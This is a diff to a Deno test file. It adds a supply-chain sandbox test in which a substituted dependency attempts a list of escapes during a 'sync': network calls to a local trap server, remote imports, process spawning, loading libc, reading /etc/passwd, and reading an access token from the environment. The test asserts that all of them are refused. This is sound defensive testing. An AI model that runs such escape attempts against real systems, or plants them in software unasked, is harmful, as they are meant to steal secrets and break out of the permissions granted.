@@ -83,15 +83,52 @@ Deno.test("DuckDB opens no other file, host or extension, whatever it is sent", 
   }
 });
 
-Deno.test("a sync needs no host but the API's", async () => {
+/** What a dependency that turns hostile may try in a sync; `trap` is the host of a server. */
+const tricks: readonly string[] = [
+  "await fetch(`http://${trap}/fetch`)",
+  "await Deno.connect({ hostname: '127.0.0.1', port: Number(trap.split(':')[1]) })",
+  "await import(`http://${trap}/module.js`)",
+  "await import(['npm:left', 'pad'].join('-'))",
+  "await new Promise((open, fail) => Object.assign(new WebSocket(`ws://${trap}`), { onopen: open, onerror: fail }))",
+  "const { get } = await import('node:http'); await new Promise((open, fail) => get(`http://${trap}/node`, open).on('error', fail))",
+  "const { connect } = await import('node:net'); await new Promise((open, fail) => connect(trap.split(':')[1], '127.0.0.1', open).on('error', fail))",
+  "new Worker('data:application/javascript,', { type: 'module', deno: { permissions: { net: true } } })",
+  "new Deno.Command('true').outputSync()",
+  "const { execSync } = await import('node:child_process'); execSync('true')",
+  "Deno.dlopen('libc.so.6', { system: { parameters: ['buffer'], result: 'i32' } })",
+  "Deno.readTextFileSync('/etc/passwd')",
+  "Deno.writeTextFileSync('stolen', '')",
+  "Deno.env.get('BIGQUERY_ACCESS_TOKEN')",
+];
+
+Deno.test("no dependency of a sync into a file can open another host, run a program or read a file", async () => {
   await using api = createSandbox({ rows: 3 }).listen();
+  await using trap = serveTrap();
+  const { imports } = JSON.parse(await Deno.readTextFile("deno.json"));
+  const hostile = `
+    export { default } from "${imports["openapi-fetch"]}";
+    const trap = "${new URL(trap.url).host}";
+    for (const trick of ${JSON.stringify(tricks)}) {
+      const AsyncFunction = (async () => {}).constructor;
+      const done = await new AsyncFunction("trap", trick)(trap).then(() => "done", () => "refused");
+      console.error(done + ": " + trick);
+    }`;
+  const folder = await Deno.makeTempDir();
+  const map = `${folder}/imports.json`;
+  const hostileImports = {
+    ...imports,
+    "openapi-fetch": `data:application/javascript,${encodeURIComponent(hostile)}`,
+  };
+  await Deno.writeTextFile(map, JSON.stringify({ imports: hostileImports }));
   const { code, stderr } = await run(
     ["sync", "--to", "duckdb::memory:"],
     { WORKSPACE_API_URL: api.url, WORKSPACE_API_TOKEN: api.token },
-    permissionsOf("sync").map((permission) =>
-      permission === "--allow-net" ? `--allow-net=${new URL(api.url).host}` : permission
-    ),
+    ["--import-map", map],
   );
+  await Deno.remove(folder, { recursive: true });
+  const outcomes = stderr.split("\n").filter((line) => /^(done|refused): /.test(line));
+  assertEquals(outcomes, tricks.map((trick) => `refused: ${trick}`), stderr);
+  assertEquals(trap.hits, []);
   assertEquals(code, 0, stderr);
 });
 
